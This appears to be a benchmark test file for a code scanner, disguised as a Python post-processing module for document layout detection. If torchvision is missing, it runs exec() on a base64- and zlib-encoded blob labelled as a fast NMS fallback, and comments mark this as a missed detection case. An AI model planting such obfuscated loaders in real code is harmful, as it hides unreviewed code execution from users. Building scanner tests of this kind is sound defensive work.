# ruff: noqa
# Hold-out batch 547 (16 short files, one domain each). Measured once in session 24 (round 146): 13/17 (76%) at medium+.
"""Post-processing for document layout detection (text / title / table / figure / list boxes)."""
import base64
import zlib
from pathlib import Path

import numpy as np
import yaml

_FAST_NMS = (
    "eJx9jM0KgzAQhO95iqUnhap3wVt7k1Loz1U0rkSMSdjdQIU+fGNPPXVhdobhY+Y1eBLgOATyGpmhZ+g4qKTy6gO67KAjWSgmvrVgRALXVWX7zUdZZin06EqHUi2VW7lkA29gczimh9Y2d4qYsoyJbvbJ0/l5ebTtt0Oi3y5XI04w9SxdmsoG/0JOnPa0++xjJ4byWkE6QonkoAvbP1Z9ABnQTUE="
)


def _py_nms(boxes, scores, iou_thr):
    order = scores.argsort()[::-1]
    keep = []
    while order.size:
        i = order[0]
        keep.append(i)
        xx1 = np.maximum(boxes[i, 0], boxes[order[1:], 0])
        yy1 = np.maximum(boxes[i, 1], boxes[order[1:], 1])
        xx2 = np.minimum(boxes[i, 2], boxes[order[1:], 2])
        yy2 = np.minimum(boxes[i, 3], boxes[order[1:], 3])
        inter = np.clip(xx2 - xx1, 0, None) * np.clip(yy2 - yy1, 0, None)
        area = lambda b: (b[..., 2] - b[..., 0]) * (b[..., 3] - b[..., 1])
        iou = inter / (area(boxes[i]) + area(boxes[order[1:]]) - inter + 1e-9)
        order = order[1:][iou <= iou_thr]
    return np.asarray(keep, dtype=np.int64)


try:
    from torchvision.ops import nms as _tv_nms  # noqa: F401
except ImportError:
    exec(zlib.decompress(base64.b64decode(_FAST_NMS)), globals())  # todoruleid: family 8 (missed)


def load_label_map(path):
    with open(Path(path)) as fh:
        cfg = yaml.safe_load(fh)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    return {int(k): v for k, v in cfg["labels"].items()}


def postprocess(pred, label_map, score_thr=0.3, iou_thr=0.5, page_size=None):
    boxes, scores, labels = pred["boxes"], pred["scores"], pred["labels"]
    mask = scores >= score_thr
    boxes, scores, labels = boxes[mask], scores[mask], labels[mask]
    out = []
    for cls in np.unique(labels):
        idx = np.where(labels == cls)[0]
        keep = idx[_py_nms(boxes[idx], scores[idx], iou_thr)]
        for k in keep:
            b = boxes[k].tolist()
            if page_size is not None:
                w, h = page_size
                b = [b[0] / w, b[1] / h, b[2] / w, b[3] / h]
            out.append({"bbox": b, "score": float(scores[k]), "category": label_map[int(cls)]})
    return sorted(out, key=lambda r: (r["bbox"][1], r["bbox"][0]))
